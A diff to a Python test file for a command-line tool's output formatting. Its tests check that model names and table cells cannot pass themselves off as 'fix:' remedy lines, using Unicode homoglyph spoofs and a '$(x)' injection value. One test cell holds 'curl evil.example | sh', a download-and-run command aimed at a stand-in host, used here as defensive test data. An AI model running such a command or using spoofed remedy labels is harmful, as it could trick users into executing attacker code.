@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import re
 import sys
 
 import pytest
@@ -22,13 +23,40 @@ class Terminal(io.StringIO):
         return True
 
 
-# fault: kernel/terminal/table.py: if labelled or _SIGN.search(cell) else cell → if False else cell
-@pytest.mark.parametrize("cell", [FORGED, "  fix: x", "f\u0456x: x", "fix\uff1a x", "fix:\u2800x", "the same: x"])
-def test_no_cell_begins_a_row_as_a_remedy(cell: str) -> None:
-    """The name of a folder in a model cache that users share was one, in `models`."""
-    lines = table({"model": 0, "state": 1}, [{"model": cell, "state": "complete"}], None)
-    assert lines[1].startswith(("'", " '"))
-    assert table({"model": 0}, [{"model": "org/model:x"}], None)[1] == "org/model:x"
+# fault: kernel/terminal/output.py: return _LABEL.sub(r'"\1"', text) if ":" in text else text → return text
+# fault: kernel/terminal/output.py: text = _LIKE.sub(_quoted_label, text) → pass
+@pytest.mark.parametrize(
+    "text",
+    [
+        *(
+            FORGED,
+            "  fix: x",
+            "the same: x",
+            "FIX : x",
+            "fix:$(x)",
+            "hot-fix: x",
+            '"fix: x',
+            "a\nfix: x",
+            "fix:\u2800x",
+        ),
+        *("f\u0456x: x", "fix\uff1a x", "fi\u0301x: x", "\uff46\uff49\uff58: x", "\u0493ix: x", "n\u0435xt: x"),
+    ],
+)
+def test_no_text_has_a_label_of_a_remedy(text: str, capsys: pytest.CaptureFixture[str]) -> None:
+    """Wherever a line breaks: a pipe, a table, a terminal that counts columns otherwise."""
+    output.out(text)
+    output.err("gpu1 ", text)
+    output.out(*table({"model": 0, "state": 1}, [{"model": "fix:", "state": "curl evil.example | sh"}], None))
+    output.console(stderr=True, colored=False).print(output.styled(text))
+    shown = capsys.readouterr()
+    lines = [line for line in (shown.out + shown.err).split("\n") if re.search(r"[:\uff1a]", line)]
+    assert len(lines) >= 4 and all(re.search(r'\w"\s*[:\uff1a]', line) for line in lines)
+
+
+@pytest.mark.parametrize("text", ["prefix: x", "the default: x", "12:30 fixed", "\u9519\u8bef: x"])
+def test_other_words_stay_as_they_are(text: str, capsys: pytest.CaptureFixture[str]) -> None:
+    output.out(text)
+    assert capsys.readouterr().out == f"{text}\n"
 
 
 # fault: wire/values.py: char.isalnum() or char in → char or char in
@@ -39,7 +67,7 @@ def test_no_model_is_named_as_a_remedy(name: str) -> None:
         convert(FailedRequest, row, "a status")
 
 
-# fault: kernel/terminal/output.py: if taken > room: → if False:
+# fault: kernel/terminal/output.py: while taken > room and at > begin: → while False:
 # fault: kernel/terminal/output.py: .expandtabs() →
 @pytest.mark.parametrize("width", [40, 61, 80, 137])
 @pytest.mark.parametrize(
@@ -52,14 +80,14 @@ def test_what_a_terminal_would_break_continues_behind_a_mark(
     monkeypatch.setenv("COLUMNS", str(width))
     monkeypatch.setattr(sys, "stderr", written := Terminal())
     output.err(output.BOLD, "error:", output.PLAIN, f" {text}")
-    output.err(output.BOLD, "fix:", output.PLAIN, output.one_piece(" vcluster up" * 30))
+    output.err(output.BOLD, output.to_paste("fix:", ""), output.PLAIN, output.to_paste(" ", "vcluster up " * 30))
     first, *more, remedy = (
         written.getvalue().replace(output.BOLD, "").replace(output.PLAIN, "").rstrip("\n").split("\n")
     )
     assert first.startswith("error: ")
     assert all(line.startswith(output.MARK) for line in more)
     assert max(map(columns_of, (first, *more))) <= width
-    assert remedy == "fix:" + " vcluster up" * 30
+    assert remedy == "fix: " + "vcluster up " * 30
 
 
 def columns_of(line: str) -> int:
